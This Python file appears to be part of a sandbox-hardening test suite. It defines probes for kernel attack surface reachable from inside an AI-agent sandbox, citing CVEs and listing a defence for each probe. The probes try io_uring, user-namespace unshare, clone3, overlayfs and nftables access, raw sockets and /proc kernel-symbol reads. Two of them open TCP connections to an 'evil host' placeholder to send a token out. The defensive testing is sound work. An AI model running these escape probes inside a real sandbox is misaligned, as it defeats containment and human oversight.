from probe_runner import *

klass('J', 'Kernel attack surface reachable from inside',
      correct='EPERM/ENOSYS (or SIGSYS) before the subsystem is entered; NoNewPrivs=1, Seccomp=2, CapEff=0.',
      defence='PR_SET_NO_NEW_PRIVS, drop all capabilities incl. bounding/ambient, seccomp-bpf with arch check (deny i386/x32), ENOSYS for io_uring, userfaultfd, keyctl, bpf, perf_event_open, new mount API, clone3 flags; socket families limited to UNIX/INET/INET6/NETLINK_ROUTE.')


def sysc(id, title, expr, ref, **k):
    probe(id, title, 'r=%s\nprint("ESCAPED" if r>=0 else "BLOCKED",r)' % expr, lang='py', ref=ref, oracle='ESCAPED printed (syscall entered the subsystem)', **k)


probe('J01', 'io_uring_setup', 'uring-setup', lang='c', needs=('helper',), ref='openai/codex#10814; nono#1590; arapuca#33; moby#46762', oracle='ESCAPED printed')
probe('J02', 'io_uring IORING_OP_SOCKET/CONNECT: TCP to the evil host', 'uring-tcp @EVIL4@ 80 @TOK@', lang='c', needs=('helper',), check=lambda c, p, r, t: c.sinks.seen(t, 'tcp'), ref='bounty-challenge#19309; celln#30', oracle='token arrived')
sysc('J03', 'userfaultfd(UFFD_USER_MODE_ONLY)', 'sc(323,0x80001)', 'kernel exploit primitive')
sysc('J04', 'unshare(CLONE_NEWUSER)', '(lambda p: (os.waitpid(p,0)[1]==0)-1)(os.fork() or os._exit(0 if libc.unshare(0x10000000)==0 else 1))', 'CVE-2024-1086 style bugs need it (moussouni post)')
sysc('J05', 'clone3 with CLONE_NEWUSER (seccomp cannot read its struct)', '(lambda r: (os._exit(0) if r==0 else (os.waitpid(r,0) and r) if r>0 else r))(libc.syscall(ctypes.c_long(435),(ctypes.c_ulong*8)(0x10000000,0,0,0,17,0,0,0),ctypes.c_long(64)) )', 'flatpak CVE-2021-41133 (new syscalls evade the filter)')
probe('J06', 'mount tmpfs in a nested user namespace', 'unshare -Urm sh -c "mount -t tmpfs x /tmp && echo ESCAPED"', needs=('unshare',), ref='kernel fs attack surface', oracle='ESCAPED printed')
probe('J07', 'mount overlayfs in a nested user namespace', 'unshare -Urm sh -c "mount -t tmpfs x /tmp && mkdir /tmp/l /tmp/u /tmp/w /tmp/m && mount -t overlay o -o lowerdir=/tmp/l,upperdir=/tmp/u,workdir=/tmp/w /tmp/m && echo ESCAPED"', needs=('unshare',), ref='CVE-2023-0386, CVE-2021-3493 (overlayfs LPE)', oracle='ESCAPED printed')
probe('J08', 'new mount API: fsopen/fsmount in a nested user namespace', 'pid=os.fork()\nif pid==0:\n  r=libc.unshare(0x10020000); f=sc(430,b"tmpfs",0); print("ESCAPED" if f>=0 else "BLOCKED",r,f,flush=True); os._exit(0)\nos.waitpid(pid,0)', lang='py', ref='flatpak CVE-2021-41133', oracle='ESCAPED printed')
probe('J09', 'raw packet socket after unshare user+net', 'pid=os.fork()\nif pid==0:\n  libc.unshare(0x50000000)\n  try: socket.socket(17,3,0); print("ESCAPED")\n  except OSError as e: print("BLOCKED",e)\n  sys.stdout.flush(); os._exit(0)\nos.waitpid(pid,0)', lang='py', ref='CVE-2017-7308, CVE-2020-14386 (AF_PACKET LPE)', oracle='ESCAPED printed')
probe('J10', 'nftables netlink after unshare user+net', 'pid=os.fork()\nif pid==0:\n  libc.unshare(0x50000000)\n  try: socket.socket(16,3,12); print("ESCAPED")\n  except OSError as e: print("BLOCKED",e)\n  sys.stdout.flush(); os._exit(0)\nos.waitpid(pid,0)', lang='py', ref='CVE-2024-1086 (netfilter UAF, actively exploited)', oracle='ESCAPED printed')
sysc('J11', 'perf_event_open (software event on self)', 'libc.syscall(ctypes.c_long(298),struct.pack("<IIQQQQQ",1,112,0,0,0,0,0x61)+b"\\0"*64,ctypes.c_long(0),ctypes.c_long(-1),ctypes.c_long(-1),ctypes.c_long(0))', 'docker default seccomp')
sysc('J12', 'bpf(BPF_MAP_CREATE)', 'libc.syscall(ctypes.c_long(321),ctypes.c_long(0),struct.pack("<IIIII",2,4,4,1,0)+b"\\0"*100,ctypes.c_long(72))', 'docker default seccomp; kernel already denies unprivileged bpf here')
sysc('J13', 'add_key / keyctl reachable', 'sc(250,0,-3,0)', 'docker default seccomp; CVE-2016-0728')
sysc('J14', 'personality(READ_IMPLIES_EXEC)', '(lambda o: libc.personality(o|0x0400000))(libc.personality(0xffffffff))', 'docker default seccomp')
probe('J15', 'x32 ABI syscalls pass the filter', 'x32-socket', lang='c', needs=('helper', 'x86_64'), ref='celln#30; libseccomp advice (kernel may not enable x32)', oracle='ESCAPED printed')
probe('J16', 'i386 int 0x80 syscalls pass the filter', 'i386', lang='c', needs=('helper', 'x86_64'), ref='celln#30', oracle='ESCAPED printed')
probe('J17', 'i386 socketcall: TCP to the evil host', 'i386-tcp @EVIL4@ 80 @TOK@', lang='c', needs=('helper', 'x86_64'), check=lambda c, p, r, t: c.sinks.seen(t, 'tcp'), ref='celln#30', oracle='token arrived')
probe('J18', 'memfd_create + execveat: run code that never touched a path', 'memfd-exec /bin/true', lang='c', needs=('helper',), tier=2, ref='exec allow-lists by path', defence='seccomp memfd_create MFD_EXEC or execveat(AT_EMPTY_PATH); vm.memfd_noexec', oracle='ESCAPED printed')
for i, (n, fam, typ, pr) in enumerate([('AF_ALG', 38, 5, 0), ('AF_VSOCK', 40, 1, 0), ('AF_NETLINK uevent', 16, 3, 15), ('AF_NETLINK audit', 16, 3, 9), ('AF_TIPC', 30, 5, 0), ('AF_BLUETOOTH', 31, 3, 0), ('AF_CAN', 29, 3, 1), ('AF_RDS', 21, 5, 0)]):
    if n in ('AF_ALG', 'AF_VSOCK', 'AF_NETLINK uevent'):
        probe('J%02d' % (19 + i), 'socket(%s)' % n, 'try: socket.socket(%d,%d,%d); print("ESCAPED")\nexcept OSError as e: print("BLOCKED",e)' % (fam, typ, pr), lang='py', ref='socket-family filters (aube#361: deny list vs allow list)', oracle='ESCAPED printed')
probe('J22', 'no_new_privs not set (setuid binaries stay useful)', 'grep -q "^NoNewPrivs:.1" /proc/self/status || echo ESCAPED', ref='setuid escalation; qwen-code#11614', oracle='ESCAPED printed')
probe('J23', 'no seccomp filter at all', 'grep -q "^Seccomp:.2" /proc/self/status || echo ESCAPED', ref='bubblewrap#309: bwrap installs no filter by itself', oracle='ESCAPED printed')
probe('J24', 'capability bounding set not emptied', 'grep -q "^CapBnd:.0000000000000000" /proc/self/status || echo ESCAPED', ref='pentagi#355 CapDrop ALL', defence='drop bounding set', oracle='ESCAPED printed')
probe('J25', 'effective capabilities inside a nested namespace (unshare -Ur; CapEff)', 'unshare -Ur grep -q "^CapEff:.0000000000000000" /proc/self/status; [ $? = 1 ] && echo ESCAPED', needs=('unshare',), ref='nested userns gives full caps', oracle='ESCAPED printed')
probe('J26', 'device nodes beyond the basic set (/dev/fuse, /dev/kvm, /dev/net/tun, /dev/kmsg, /dev/vda)', 'for d in /dev/fuse /dev/kvm /dev/net/tun /dev/kmsg /dev/mem /dev/vda /dev/sda /dev/uinput /dev/dri; do [ -e $d ] && echo ESCAPED $d; done', ref='bwrap --dev gives a minimal /dev', defence='private minimal /dev', oracle='ESCAPED printed')
probe('J27', '/sys visible (hardware fingerprint, device attributes)', '[ -e /sys/kernel ] && echo ESCAPED', tier=2, ref='container masking', defence='do not mount /sys', oracle='ESCAPED printed')
probe('J28', 'kernel symbols and config in /proc (kallsyms, sysrq-trigger, sys/kernel/core_pattern)', '[ -w /proc/sys/kernel/core_pattern ] && echo ESCAPED; head -c1 /proc/kallsyms >/dev/null 2>&1 && echo ESCAPED kallsyms', ref='runC CVE-2025-31133/-52565/-52881 (procfs gadgets, core_pattern)', defence='mask sensitive /proc files', oracle='ESCAPED printed')
sysc('J29', 'ptrace(PTRACE_TRACEME) inside (policy choice; debuggers need it)', 'sc(101,0,0,0,0)', 'codex denies ptrace', tier=2)
sysc('J30', 'modify_ldt', 'libc.syscall(ctypes.c_long(154),ctypes.c_long(0),ctypes.create_string_buffer(16),ctypes.c_long(16))', 'docker default seccomp', needs=('x86_64',))
